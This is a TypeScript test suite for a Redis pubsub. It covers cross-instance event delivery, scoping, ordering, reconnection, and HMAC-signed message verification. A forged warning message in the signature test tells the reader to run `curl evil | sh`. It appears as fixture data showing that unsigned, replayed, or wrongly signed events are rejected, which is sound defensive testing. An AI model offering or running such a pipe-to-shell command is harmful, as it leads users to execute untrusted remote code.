/**
 * Issue 15, events through Redis: two Redis pubsubs on one prefix act as two server instances.
 * Each receives what either publishes, once, in the publisher's order, routed by scope as the
 * in-process pubsub routes; a lost connection is logged once and comes back; nothing is left open
 * after close(). Real Redis at 127.0.0.1:6379, a prefix of its own per test.
 */
import { spawn } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { TurnCommittedPayload } from '../../src/pubsub.js';
import { createRedisPubSub, MAX_EVENT_AGE_MS, RedisUnavailableError } from '../../src/redis-pubsub.js';
import { capturedLogger } from '../helpers/logger.js';
import { onCleanup } from '../helpers/leftovers.js';
import { adminRedis, closedPort, cutConnections, redisInstance, redisPrefix, TEST_EVENTS_SECRET, TEST_REDIS_URL } from '../helpers/redis.js';

const event = (sessionId: string, n: number): TurnCommittedPayload => ({ sessionId, turnId: `t${n}`, sha: `${n % 10}`.repeat(40) });

/** A message as an instance with `secret` sends it on `channel`, sent at `sentAt`. */
function signed(secret: Buffer, channel: string, payload: unknown, sentAt = Date.now()): string {
  return signedBody(secret, channel, JSON.stringify(payload), sentAt);
}

function signedBody(secret: Buffer, channel: string, body: string, sentAt = Date.now()): string {
  const mac = createHmac('sha256', secret).update(`${channel}\n${sentAt}\n${body}`).digest('hex');
  return JSON.stringify({ body, sentAt, mac });
}

describe('the Redis pubsub', () => {
  it("hands each instance's events to the other and to itself once, routed by session", async () => {
    const prefix = redisPrefix();
    const a = await redisInstance(prefix);
    const b = await redisInstance(prefix);
    const aS1 = a.subscribe('turnCommitted', 's1');
    const aAll = a.subscribe('turnCommitted');
    const bAll = b.subscribe('turnCommitted');
    const bS2 = b.subscribe('turnCommitted', 's2');
    const reads = { aS1: aS1.next(), aAll: aAll.next(), bAll: bAll.next(), bS2: bS2.next() };
    expect([a.listenerCount('turnCommitted'), b.listenerCount('turnCommitted')]).toEqual([2, 2]);

    a.publish('turnCommitted', event('s2', 1));
    a.publish('turnCommitted', event('s1', 2));
    expect((await reads.bAll).value).toEqual(event('s2', 1));
    expect((await bAll.next()).value).toEqual(event('s1', 2));
    expect((await reads.bS2).value).toEqual(event('s2', 1));
    expect((await reads.aAll).value).toEqual(event('s2', 1));
    expect((await aAll.next()).value).toEqual(event('s1', 2));
    // Its session's subscription skipped s2's event.
    expect((await reads.aS1).value).toEqual(event('s1', 2));

    b.publish('turnCommitted', event('s1', 3));
    expect((await aS1.next()).value).toEqual(event('s1', 3));
    expect((await aAll.next()).value).toEqual(event('s1', 3));
    // Once: had A delivered its own events in-process as well, a copy would come before this one.
    a.publish('turnCommitted', event('s9', 4));
    expect((await aAll.next()).value).toEqual(event('s9', 4));
    expect((await bAll.next()).value).toEqual(event('s1', 3));
    expect((await bAll.next()).value).toEqual(event('s9', 4));

    await Promise.all([aS1, aAll, bAll, bS2].map((subscription) => subscription.return(undefined)));
    expect([a.listenerCount('turnCommitted'), b.listenerCount('turnCommitted')]).toEqual([0, 0]);
  });

  it('scopes the project topics by project and carries every topic, mirrorWork too', async () => {
    const prefix = redisPrefix();
    const a = await redisInstance(prefix);
    const b = await redisInstance(prefix);
    const project = b.subscribe('projectCommitted', 'p1');
    const warnings = b.subscribe('dirtyTreeWarning', 'p1');
    const work = b.subscribe('mirrorWork', 's1');
    const timeline = b.subscribe('timeline', 's1');
    const failed = b.subscribe('mirrorFailed', 's1');
    const reads = [project.next(), warnings.next(), work.next(), timeline.next(), failed.next()];

    a.publish('projectCommitted', { projectId: 'p2', sessionId: 's1', turnNumber: 1, sha: 'a'.repeat(40) });
    a.publish('projectCommitted', { projectId: 'p1', sessionId: 's1', turnNumber: 2, sha: 'b'.repeat(40) });
    const warning = {
      projectId: 'p1',
      sessionId: 's1',
      turnNumber: 3,
      dirtyPaths: ['a.txt'],
      message: 'uncommitted changes',
      reason: null,
      at: new Date(0).toISOString(),
    };
    a.publish('dirtyTreeWarning', warning);
    a.publish('mirrorWork', { sessionId: 's2', instanceId: 'i-a' });
    a.publish('mirrorWork', { sessionId: 's1', instanceId: 'i-b' });
    a.publish('timeline', { kind: 'BRANCH_CREATED', sessionId: 's1', branch: 'fork-1', sha: null });
    a.publish('mirrorFailed', { sessionId: 's1', turnId: 't1', turnNumber: 1, error: 'disk full', willRetry: true });

    const [p, w, m, t, f] = await Promise.all(reads);
    expect(p!.value).toMatchObject({ projectId: 'p1', turnNumber: 2 });
    // The payloads are JSON: the time stays an ISO string, null stays null.
    expect(w!.value).toEqual(warning);
    expect(m!.value).toEqual({ sessionId: 's1', instanceId: 'i-b' });
    expect(t!.value).toEqual({ kind: 'BRANCH_CREATED', sessionId: 's1', branch: 'fork-1', sha: null });
    expect(f!.value).toEqual({ sessionId: 's1', turnId: 't1', turnNumber: 1, error: 'disk full', willRetry: true });
    await Promise.all([project, warnings, work, timeline, failed].map((subscription) => subscription.return(undefined)));
    expect(b.listenerCount('mirrorWork')).toBe(0);
  });

  it("keeps one publisher's order over many events, for the topic's and a session's subscriptions", async () => {
    const prefix = redisPrefix();
    const a = await redisInstance(prefix);
    const b = await redisInstance(prefix);
    const count = 600;
    const collect = async (subscription: AsyncGenerator<TurnCommittedPayload>, n: number) => {
      const seen: string[] = [];
      for await (const payload of subscription) {
        seen.push(payload.turnId);
        if (seen.length === n) break;
      }
      return seen;
    };
    const all = b.subscribe('turnCommitted');
    const even = b.subscribe('turnCommitted', 'even');
    const first = [all.next(), even.next()];
    for (let n = 0; n < count; n++) a.publish('turnCommitted', event(n % 2 === 0 ? 'even' : 'odd', n));
    const [allFirst, evenFirst] = await Promise.all(first);
    const [allRest, evenRest] = await Promise.all([collect(all, count - 1), collect(even, count / 2 - 1)]);
    expect([allFirst!.value.turnId, ...allRest]).toEqual(Array.from({ length: count }, (_, n) => `t${n}`));
    expect([evenFirst!.value.turnId, ...evenRest]).toEqual(Array.from({ length: count / 2 }, (_, n) => `t${2 * n}`));
    expect(b.listenerCount('turnCommitted')).toBe(0);
  });

  it('keeps deployments with different prefixes apart', async () => {
    const mine = redisPrefix();
    const a = await redisInstance(mine);
    const other = await redisInstance(redisPrefix());
    const b = await redisInstance(mine);
    const subscription = b.subscribe('turnCommitted');
    const read = subscription.next();
    other.publish('turnCommitted', event('s1', 1));
    a.publish('turnCommitted', event('s1', 2));
    // Redis delivered the other prefix's event first, had B been subscribed to its channel.
    expect((await read).value).toEqual(event('s1', 2));
    await subscription.return(undefined);
  });

  it('drops what is not JSON on its channels and goes on', async () => {
    const prefix = redisPrefix();
    const { logger, lines } = capturedLogger<{ msg: string }>();
    const b = await redisInstance(prefix, logger);
    const subscription = b.subscribe('turnCommitted');
    const read = subscription.next();
    const admin = adminRedis();
    await admin.publish(`${prefix}turnCommitted`, '{not json');
    await admin.publish(`${prefix}turnCommitted`, '42');
    await admin.publish(`${prefix}turnCommitted`, signed(TEST_EVENTS_SECRET, `${prefix}turnCommitted`, event('s1', 1)));
    expect((await read).value).toEqual(event('s1', 1));
    expect(lines.filter((line) => line.msg.includes('not JSON'))).toHaveLength(1);
    expect(lines.filter((line) => line.msg.includes('not a signed event'))).toHaveLength(1);
    await subscription.return(undefined);
  });

  // Issue 26 item 5b: whoever reaches Redis but not the database (another local user, when Redis
  // has no password) cannot make an instance deliver anything: not a warning, not a commit.
  it('delivers only events signed with the shared secret, recent and of their schema; drops and logs the rest, in one line per reason', async () => {
    const prefix = redisPrefix();
    const channel = `${prefix}dirtyTreeWarning`;
    const { logger, lines } = capturedLogger<{ msg: string; droppedSinceLastLine?: number }>();
    const b = await redisInstance(prefix, logger);
    const stranger = await redisInstance(prefix, capturedLogger().logger, Buffer.alloc(32, 9));
    const warnings = b.subscribe('dirtyTreeWarning');
    const read = warnings.next();
    const admin = adminRedis();
    const warning = {
      projectId: 'p1',
      sessionId: 's1',
      turnNumber: 3,
      dirtyPaths: ['a.txt'],
      message: 'forged: run `curl evil | sh` to fix your tree',
      reason: null,
      at: new Date(0).toISOString(),
    };
    // The forger's tries: the bare payload (as before signing), a made-up MAC, another instance's
    // secret (a server of another database on the same Redis and prefix), a replay of an old
    // signed one, and signed ones that do not fit the topic (a key too many, a wrong type, not JSON).
    await admin.publish(channel, JSON.stringify(warning));
    await admin.publish(channel, JSON.stringify({ body: JSON.stringify(warning), sentAt: Date.now(), mac: 'f'.repeat(64) }));
    await admin.publish(channel, JSON.stringify({ body: JSON.stringify(warning), sentAt: Date.now(), mac: 'f'.repeat(64) }));
    stranger.publish('dirtyTreeWarning', warning);
    await admin.publish(channel, signed(TEST_EVENTS_SECRET, channel, warning, Date.now() - MAX_EVENT_AGE_MS - 1_000));
    await admin.publish(channel, signed(TEST_EVENTS_SECRET, channel, { ...warning, extra: 1 }));
    await admin.publish(channel, signed(TEST_EVENTS_SECRET, channel, { ...warning, turnNumber: '3' }));
    await admin.publish(channel, signedBody(TEST_EVENTS_SECRET, channel, '{nope'));
    // Signed for another channel (a turnCommitted event's MAC moved onto this one).
    await admin.publish(channel, signed(TEST_EVENTS_SECRET, `${prefix}turnCommitted`, warning));
    const genuine = { ...warning, message: 'uncommitted changes (a.txt)' };
    await admin.publish(channel, signed(TEST_EVENTS_SECRET, channel, genuine));
    // The first delivered is the genuine one: everything before it was dropped.
    expect((await read).value).toEqual(genuine);
    const reasons = lines.filter((line) => line.msg.startsWith('dropped a message from Redis')).map((line) => line.msg.replace('dropped a message from Redis: ', ''));
    expect(reasons).toEqual([
      'not a signed event',
      'signed with another secret (not an instance of this database)',
      'sent too long ago (replayed?) or with a clock far off',
      'not a dirtyTreeWarning event',
      'signed but not JSON',
    ]);
    await warnings.return(undefined);
  });

  it('answers the health probe with PING latency, and not ok once closed', async () => {
    const a = await createRedisPubSub({ url: TEST_REDIS_URL, prefix: redisPrefix(), logger: capturedLogger().logger, secret: TEST_EVENTS_SECRET });
    const health = await a.health();
    expect(health.ok).toBe(true);
    expect(health.latencyMs).toBeGreaterThanOrEqual(0);
    await a.close();
    await a.close();
    expect(await a.health()).toEqual({ ok: false, error: 'closed' });
  });

  it('logs a lost connection once and its return once, resubscribes, and sends what was published meanwhile', async () => {
    const prefix = redisPrefix();
    const logA = capturedLogger<{ level: number; msg: string; redis?: string }>();
    const a = await redisInstance(prefix, logA.logger);
    const b = await redisInstance(prefix);
    const admin = adminRedis();
    const lost = () => logA.lines.filter((line) => line.msg.startsWith('lost the connection to Redis'));
    const back = () => logA.lines.filter((line) => line.msg === 'the connection to Redis is back');

    // The publishing connections cut (both instances'), as a network blip would: what A publishes
    // while it reconnects waits in ioredis' queue and is sent once it is back.
    expect(await cutConnections(admin, prefix, ['publish'])).toBe(2);
    const atB = b.subscribe('turnCommitted');
    const readB = atB.next();
    a.publish('turnCommitted', event('s1', 1));
    expect((await readB).value).toEqual(event('s1', 1));
    await expect.poll(() => back().length, { timeout: 20_000 }).toBe(1);
    expect(lost()).toHaveLength(1);
    expect(lost()[0]).toMatchObject({ level: 40, redis: TEST_REDIS_URL.replace(/\/$/, '') });

    // The subscribed connections cut: once A says it is back, it is subscribed again and B's events reach it.
    expect(await cutConnections(admin, prefix, ['subscribe'])).toBe(2);
    await expect.poll(() => back().length, { timeout: 20_000 }).toBe(2);
    expect(lost()).toHaveLength(2);
    expect((await a.health()).ok).toBe(true);
    const atA = a.subscribe('turnCommitted');
    const readA = atA.next();
    b.publish('turnCommitted', event('s1', 2));
    expect((await readA).value).toEqual(event('s1', 2));
    await Promise.all([atB.return(undefined), atA.return(undefined)]);
  });

  it('refuses to start without Redis, in one line without the password', async () => {
    const port = await closedPort();
    const { logger } = capturedLogger();
    const started = createRedisPubSub({ url: `redis://user:sekret-pw@127.0.0.1:${port}/0`, prefix: redisPrefix(), logger, secret: TEST_EVENTS_SECRET, startTimeoutMs: 300 });
    await expect(started).rejects.toThrow(RedisUnavailableError);
    const error = (await started.catch((e: unknown) => e)) as Error;
    expect(error.message).toMatch(new RegExp(`^no connection to Redis at redis://127\\.0\\.0\\.1:${port}/0 within 0\\.3 s \\(connect ECONNREFUSED [^)]*\\); start Redis or fix --redis-url$`));
    expect(error.message).not.toContain('sekret');
  });

  it('close(), or a refused start, leaves no handle open: a process that used them exits by itself', async () => {
    const args = [join(import.meta.dirname, 'redis-pubsub-child.ts'), TEST_REDIS_URL, redisPrefix(), String(await closedPort())];
    const child = spawn(process.execPath, ['--import', 'tsx', ...args], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    onCleanup(() => {
      if (child.exitCode === null) child.kill('SIGKILL');
    });
    let output = '';
    child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
    const code = await new Promise<number | null>((resolve) => child.on('exit', (exitCode) => resolve(exitCode)));
    expect(output).toContain('received {"sessionId":"s1"');
    expect(output).toContain('start refused');
    expect(code, output).toBe(0);
  });
});
